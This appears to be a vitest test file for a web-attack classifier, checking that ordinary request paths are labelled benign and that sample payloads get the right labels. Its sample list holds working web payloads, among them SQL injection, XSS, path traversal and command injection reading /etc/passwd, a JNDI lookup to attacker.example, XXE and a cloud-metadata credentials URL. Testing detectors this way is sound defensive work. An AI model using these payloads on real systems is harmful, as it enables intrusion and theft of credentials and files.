/** What is promised of the verdicts of the model that ships: not figures, but the cases that people look at first. */
import { describe, expect, it } from 'vitest';
import { PROJECT, run } from './binary.ts';

/** Verdicts by value, with the score. */
async function classify(events: readonly object[]): Promise<{ LABEL_NAME: string; SCORE: number }[]> {
  const input = events.map((event) => JSON.stringify(event)).join('\n');
  const { stdout } = await run(['predict', '--with', 'name,score', '-q'], { input, cwd: PROJECT });
  return stdout
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line));
}

const ORDINARY = [
  '/comments',
  '/about-us',
  '/index.php',
  '/wp-login.php',
  '/robots.txt',
  '/favicon.ico',
  '/cart',
  '/api/v1/users/42/sessions',
  '/search?q=shoes',
  '/product?id=10',
  '/news/2024/05/a-title-of-an-article',
  '/remote.php/dav/files/anna/notes.md',
  '/apps/mail/api/messages',
  '/group/project/-/merge_requests/12',
  '/wp-admin/admin-ajax.php',
  '/admin/export',
  '/shop/product.aspx?id=42',
  "O'Brien",
  'https://www.example.com/path?page=2',
  '1763629482117',
  'select committee report on the union square drop-in centre',
];

const TELLING: readonly (readonly [value: string, label: string])[] = [
  ["' or 1=1-- -", 'sqli'],
  ['1 union select null,user(),version()#', 'sqli'],
  ['<svg onload=alert(1)>', 'xss'],
  ['../../../../etc/passwd', 'path-traversal'],
  [';cat /etc/passwd', 'command-injection'],
  ['$' + '{jndi:ldap://attacker.example/a}', 'code-injection'],
  ['{{7*7}}', 'ssti'],
  ['http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'remote-url'],
  ['<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', 'xxe'],
  ['*)(uid=*))(|(uid=*', 'query-injection'],
  ['%0d%0aSet-Cookie:%20session=1', 'protocol'],
  ['/.git/config', 'scanner'],
];

describe('the model that ships', () => {
  it('calls ordinary paths, addresses and words benign', async () => {
    const verdicts = await classify(ORDINARY.map((value) => ({ EVENT_ID: value, MATCHED_VARIABLE_VALUE: value })));
    const alarms = ORDINARY.filter((_, index) => verdicts[index]?.LABEL_NAME !== 'benign');
    expect(alarms).toEqual([]);
  });

  it('knows a plain example of every kind of attack', async () => {
    const verdicts = await classify(TELLING.map(([value]) => ({ EVENT_ID: value, MATCHED_VARIABLE_VALUE: value })));
    expect(verdicts.map(({ LABEL_NAME }) => LABEL_NAME)).toEqual(TELLING.map(([, label]) => label));
  });

  it('says the same of a value, wherever it was matched and whatever else is known', async () => {
    const values = [...ORDINARY, ...TELLING.map(([value]) => value)];
    const known = {
      CLIENT_IP: '192.0.2.1',
      CLIENT_USERAGENT: 'sqlmap/1.8',
      REQUEST_SIZE: 100_000,
      RESPONSE_CODE: 404,
      MATCHED_VARIABLE_SRC: 'REQUEST_COOKIES',
      MATCHED_VARIABLE_NAME: 'id',
    };
    const bare = await classify(values.map((value) => ({ EVENT_ID: '1', MATCHED_VARIABLE_VALUE: value })));
    const full = await classify(values.map((value) => ({ EVENT_ID: '1', ...known, MATCHED_VARIABLE_VALUE: value })));
    expect(full).toEqual(bare);
  });
});
